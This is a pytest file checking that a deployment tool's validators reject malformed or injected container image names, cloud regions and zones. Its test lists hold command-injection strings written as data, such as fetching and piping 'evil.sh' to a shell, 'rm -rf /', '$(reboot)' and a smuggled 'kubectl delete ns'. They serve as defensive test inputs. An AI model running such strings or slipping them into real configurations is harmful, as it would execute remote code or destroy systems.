"""Deployment values that reach manifests, Terraform and command lines follow their grammars."""

from __future__ import annotations

import pytest
from typer.testing import CliRunner

from hftc.cli import app
from hftc.deploy import DeploymentConfig
from hftc.frontend import compile_text
from hftc.schema.cloud_names import image_problem, region_problem, zone_problem

runner = CliRunner()

GOOD_IMAGES = ["nginx", "registry.example/fx-mm:1.0", "localhost:5000/team/engine:v1.2.3",
               "ghcr.io/org/engine@sha256:" + "a" * 64, "registry.example:443/a/b_c/d-e:latest",
               "[2001:db8::1]:5000/engine:1"]
BAD_IMAGES = ["registry.example/x:1;curl${IFS}evil.sh|sh", "registry.example/x:1 && rm -rf /", "$(reboot)",
              "x:`id`", "Registry.example/UPPER/case:1", "registry.example/x:1\nkubectl delete ns hft", "",
              "a" * 300, "x:" + "1" * 200, "ghcr.io/org/engine@sha256:short"]


@pytest.mark.parametrize("ref", GOOD_IMAGES)
def test_oci_references_are_accepted(ref):
    assert image_problem(ref) is None


@pytest.mark.parametrize("ref", BAD_IMAGES)
def test_anything_else_is_refused(ref):
    assert image_problem(ref) is not None


def test_regions_and_zones():
    assert region_problem("us-east-1") is None and region_problem("us-gov-west-1") is None
    for bad in ("us-east-1;touch${IFS}/tmp/pwn", "US-EAST-1", "us-east", "us-east-1 ", ""):
        assert region_problem(bad) is not None, bad
    assert zone_problem("us-east-1a", "us-east-1") is None
    assert zone_problem("us-east-1-bos-1a", "us-east-1") is None
    for bad in ("us-east-1a;touch${IFS}/tmp/pwn", "us-east-1", "us-east-1A", "us-east-1a b"):
        assert zone_problem(bad, "us-east-1") is not None, bad
    assert "not in region" in zone_problem("eu-west-1a", "us-east-1")


def _schema(image: str, region: str, zone: str) -> str:
    return ("hftc: 1\npackage: x\ndeployments:\n  prod:\n    environment: production\n"
            "    nodes: {cpu_cores: 4, memory_gb: 8}\n"
            f"    kubernetes: {{namespace: hft, image: '{image}'}}\n"
            f"    cloud: {{provider: aws, region: '{region}', zone: '{zone}', instance_type: c7i.large}}\n")


def test_the_schema_refuses_injections_with_a_located_diagnostic():
    ok = compile_text("d.hftc.yaml", _schema("registry.example/x:1", "us-east-1", "us-east-1a"))
    assert ok.ok, ok.diagnostics
    bad = compile_text("d.hftc.yaml", _schema("registry.example/x:1;curl${IFS}evil.sh|sh", "us-east-1",
                                              "us-east-1a;touch${IFS}/tmp/pwn"))
    found = {(d.code, d.span.line) for d in bad.diagnostics}
    assert found == {("HFT0105", 7), ("HFT0105", 8)}
    assert all("Value error" not in d.message and "curl" not in d.message for d in bad.diagnostics)


def test_deploy_requests_refuse_them_and_never_echo_megabytes(tmp_path):
    request = ("deploy to production on 4 cores 8 GB memory\nimage: registry.example/x:1;curl${IFS}evil.sh|sh\n"
               "namespace: hft\nregion: us-east-1\nzone: us-east-1a;touch${IFS}/tmp/pwn\ninstance type: c7i.large\n")
    config = DeploymentConfig.from_prompt(request)
    assert "image" not in config.entry.get("kubernetes", {}) and "zone" not in config.entry.get("cloud", {})
    assert {u.line for u in config.unrecognized} >= {2, 5}
    schema = tmp_path / "s.hftc.yaml"
    schema.write_text("hftc: 1\npackage: x\n")
    huge = request.replace("evil.sh|sh", "A" * 5_000_000)
    out = runner.invoke(app, ["deploy", str(schema), "-p", "-", "--write"], input=huge)
    assert out.exit_code == 1
    assert len(out.output) < 5_000  # the 5 MB line is cut in every message
    assert schema.read_text() == "hftc: 1\npackage: x\n"
